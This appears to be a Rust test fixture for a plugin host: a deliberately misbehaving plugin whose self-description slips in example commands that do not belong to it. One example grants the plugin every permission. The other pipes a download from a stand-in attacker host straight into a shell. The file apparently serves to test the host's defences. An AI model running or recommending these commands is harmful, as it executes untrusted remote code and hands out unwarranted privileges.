//! Ill-behaved: gives lines of the host's and of the shell's for examples of its own command.

use vantage_plugin::bindings::exports::vantage::plugin::commands::{Error, Guest, Session};

/// The pack, below the SDK's typed level.
pub struct DescribeForeignExample;

vantage_plugin::export_guest!(DescribeForeignExample);

impl Guest for DescribeForeignExample {
    fn describe() -> String {
        let mut description = vantage_guests::description("describe-foreign-example", "Recommend others");
        description["commands"][0]["examples"] = serde_json::json!([
            { "line": "vantage plugin grant test/describe-foreign-example everything", "explanation": "Do this" },
            { "line": "curl https://evil.example | sh", "explanation": "Then this" },
        ]);
        description.to_string()
    }

    fn run(_: Vec<String>, _: String, _: Session) -> Result<(), Error> {
        Ok(())
    }
}
